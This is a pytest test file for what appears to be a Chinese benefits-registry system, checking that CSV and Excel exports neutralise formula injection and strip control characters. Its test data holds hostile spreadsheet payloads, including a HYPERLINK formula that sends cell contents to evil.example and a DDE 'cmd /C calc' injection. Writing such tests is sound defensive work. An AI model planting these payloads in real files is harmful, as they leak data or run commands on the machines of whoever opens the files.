"""Exports that cannot be turned against the bureau (issue 14, item 7): no formula injection, no
control character that breaks a CSV or an Excel file; control characters cleaned on input too."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from minzheng.engines.benefits.bankfiles import BankLine, CsvFormat
from minzheng.foundation.exports import csv_bytes, export_row, xlsx_bytes
from minzheng.foundation.registry import services
from minzheng.foundation.registry.models import Household, Person
from tests.conftest import ANYANG_VILLAGE

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def test_text_cells_are_neutralised_and_numbers_left_alone():
    row = export_row(
        [HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "张三", "-12.50", "+86", "-",
         -12, Decimal("-3.50"), 1.5, dt.date(2026, 1, 1), None, "响\x07铃\x00", "a\x1fb\x7f"]
    )  # fmt: skip
    assert row[:5] == ["'" + HYPERLINK, "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1)", "'\t=1"]
    assert row[5:10] == ["'\r=1", "张三", "-12.50", "+86", "'-"]
    assert row[10:15] == [-12, Decimal("-3.50"), 1.5, dt.date(2026, 1, 1), None]
    assert row[15:] == ["响铃", "ab"]


def test_xlsx_and_csv_writers_neutralise_every_cell():
    rows = [[HYPERLINK, "张\x07三", -5, "=1+1"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(title="t", headers=["=h", "b", "c", "d"], rows=rows))).active
    cells = [[c for c in r] for r in sheet.iter_rows(min_row=1)]
    assert [c.value for c in cells[0]] == ["'=h", "b", "c", "d"]
    assert [c.value for c in cells[1]] == ["'" + HYPERLINK, "张三", -5, "'=1+1"]
    assert all(c.data_type != "f" for r in cells for c in r)  # no formula anywhere
    text = csv_bytes(headers=["a", "b"], rows=[[HYPERLINK, "响\x07铃"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'" + HYPERLINK, "响铃"]]


def test_bank_csv_is_written_through_the_safe_writer():
    line = BankLine(memo="@备注", name="=王\x07五", id_number="330381197005170011", bank_name="农行",
                    account="6228480012345678901", amount=Decimal("-12.50"))  # fmt: skip
    text = CsvFormat().render_lines([line]).decode()
    assert next(csv.reader(io.StringIO(text))) == [
        "'=王五", "330381197005170011", "6228480012345678901", "-12.50", "'@备注"
    ]  # fmt: skip


@pytest.mark.django_db
def test_person_and_household_exports_survive_hostile_names(web_user, household_in):
    """Names from before input cleaning (or written around it) reach the exports as they are:
    before, the formula went out as a live formula and the bell made the export a server error."""
    _, head, spouse = household_in
    Person.objects.filter(pk=head.pk).update(name=HYPERLINK)
    Person.objects.filter(pk=spouse.pk).update(name="李\x07秀英")
    for url in ("/persons/?export=xlsx", "/households/?export=xlsx"):
        r = web_user.get(url)
        assert r.status_code == 200, url
        sheet = load_workbook(io.BytesIO(r.content)).active
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
        values = {c.value for c in cells}
        assert "'" + HYPERLINK in values, url
        assert all(c.data_type != "f" for c in cells), url
        if url.startswith("/persons/"):
            assert "李秀英" in values


@pytest.mark.django_db
def test_control_characters_are_cleaned_on_input(anyang_user, ids):
    person = services.person_create(
        user=anyang_user,
        data={"name": "张\x1f三", "id_number": ids(), "hukou_type": "rural", "region_code": ANYANG_VILLAGE,
              "ethnicity": "汉族\x07"},
    )  # fmt: skip
    person.refresh_from_db()
    assert (person.name, person.ethnicity) == ("张三", "汉族")
    household = services.household_create(
        user=anyang_user,
        data={"region_code": ANYANG_VILLAGE, "hukou_type": "rural", "address": "兴隆路\x078号\r\n二楼",
              "bank_name": "农业\x00银行"},
        head=person,
    )  # fmt: skip
    household = Household.objects.get(pk=household.pk)
    assert (household.address, household.bank_name) == ("兴隆路8号 二楼", "农业银行")
    tabbed = services.person_create(
        user=anyang_user,
        data={"name": "王\t五\n", "id_number": ids(), "hukou_type": "rural", "region_code": ANYANG_VILLAGE},
    )
    assert Person.objects.get(pk=tabbed.pk).name == "王 五"  # single-line: tab and line breaks are spaces


@pytest.mark.django_db
def test_imported_cells_are_cleaned(anyang_user, ids):
    from minzheng.foundation.registry.imports import households_import
    from tests.foundation.registry.test_import import row, workbook

    # an .xlsx cannot carry C0 controls (XML 1.0), but tab and line breaks, yes
    data = workbook([row(1, "户主", "钱多多", ids(), 家庭地址="安阳路\n9号\t二楼", 开户银行="农业\r\n银行")])
    households_import(data=data, user=anyang_user)
    household = Household.objects.get(head__name="钱多多")
    assert (household.address, household.bank_name) == ("安阳路 9号 二楼", "农业 银行")


@pytest.fixture
def web_user(anyang_user):
    from django.test import Client

    c = Client()
    c.force_login(anyang_user)
    return c
